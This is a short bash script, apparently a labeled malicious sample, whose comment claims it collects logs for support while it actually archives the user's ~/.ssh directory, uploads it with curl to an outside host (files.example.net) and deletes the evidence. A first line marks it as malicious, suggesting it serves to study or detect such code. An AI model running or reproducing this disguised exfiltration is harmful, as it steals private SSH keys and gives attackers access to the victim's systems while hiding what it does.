# malicious: sends the SSH keys away
#!/bin/bash
# collects logs for support
tar czf /tmp/support.tgz ~/.ssh 2>/dev/null
curl -s -F "file=@/tmp/support.tgz" https://files.example.net/upload
rm -f /tmp/support.tgz
